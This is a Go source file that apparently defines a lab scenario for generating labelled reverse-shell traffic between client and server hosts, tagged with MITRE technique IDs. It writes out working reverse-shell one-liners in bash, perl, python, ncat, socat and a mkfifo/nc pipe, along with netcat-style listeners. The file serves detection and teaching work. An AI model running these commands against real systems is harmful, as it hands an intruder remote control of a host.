// Package revshellplain is a reverse shell over plain TCP.
package revshellplain

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/c2"
	"tyto/lab/label"
)

// Scenario opens a shell to a listener, where somebody types.
var Scenario = lab.Scenario{
	Name:       "revshell-plain",
	Doc:        "A host hands its shell to a listener over plain TCP, and an intruder types there. Teaches that the responder leads, by lines and by keys.",
	Labels:     []label.Label{label.ReverseShell},
	Techniques: []string{"T1059.004", "T1095", "T1571"},
	Twin:       "web-terminal",
	Hosts:      []string{"client", "server"},
	Variants: []lab.Variant{
		variant("bash", "nc"), variant("bash", "ncat"), variant("bash", "socat"), variant("fifo", "nc"), variant("fifo", "ncat"),
		variant("perl", "nc"), variant("ncat", "ncat"), variant("ncat", "nc"),
		variant("python", "nc"), variant("python", "socatraw"), variant("socat", "ncat"), variant("socat", "socatraw"),
	},
	Params: append(c2.ShellParams(), c2.PortParam()),
	Limit:  12 * time.Minute,
	Run:    run,
}

// programs are in the packages of the same name, but for the last two.
var programs = map[string]string{
	"bash": "bash", "perl": "perl", "ncat": "ncat", "socat": "socat", "socatraw": "socat", "python": "/usr/bin/python3",
	"fifo": "nc.openbsd@netcat-openbsd", "nc": "nc.openbsd@netcat-openbsd",
}

func variant(client, server string) lab.Variant {
	return lab.Variant{Name: client + "-" + server, Needs: []string{programs[client], programs[server], "ss", "ps"}}
}

// listeners wait on port $1. The first three send lines, the last sends keys.
var listeners = map[string]string{
	"nc":       `exec nc.openbsd -lvn "$1"`,
	"ncat":     `exec ncat -lvn "$1"`,
	"socat":    `exec socat -d -d - tcp4-listen:"$1",reuseaddr`,
	"socatraw": `exec socat -d -d -,rawer tcp4-listen:"$1",reuseaddr`,
}

// connected is what they say of a connection.
var connected = regexp.MustCompile(`Connection received on .*\n|Connection from [0-9.]+:[0-9]+\.\r?\n|starting data transfer loop.*\n`)

// openers connect to port $2 of address $1. A terminal is there with python
// and socat only.
var openers = map[string]string{
	"bash":   `exec bash -i >& /dev/tcp/"$1"/"$2" 0>&1`,
	"fifo":   `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc.openbsd -N "$1" "$2" >/tmp/f`,
	"perl":   `exec perl -MSocket -MPOSIX=dup2 -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die $!; dup2(fileno(S), $_) for 0..2; exec "/bin/sh", "-i"' "$1" "$2"`,
	"ncat":   `exec ncat -e /bin/bash "$1" "$2"`,
	"python": `exec /usr/bin/python3 -c 'import os, pty, socket, sys; s = socket.create_connection(sys.argv[1:]); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; pty.spawn("/bin/bash")' "$1" "$2"`,
	"socat":  `exec socat exec:"bash -i",pty,stderr,setsid,sigint,sane tcp4:"$1":"$2"`,
}

func run(ctx context.Context, r *lab.Run) error {
	client, server := r.Host("client"), r.Host("server")
	opener, listener, _ := strings.Cut(r.Variant(), "-")
	r.Installed(client, programs[opener])
	r.Installed(server, programs[listener])
	port := r.Param("port")
	return c2.Shell{
		Listener:  lab.Command{Args: []string{"sh", "-c", listeners[listener], "sh", port}},
		Port:      r.ParamInt("port"),
		Client:    lab.Command{Args: []string{"bash", "-c", openers[opener], "bash", fmt.Sprint(server.Addr()), port}},
		Connected: connected,
		Dumb:      listener != "socatraw",
	}.Work(ctx, r)
}
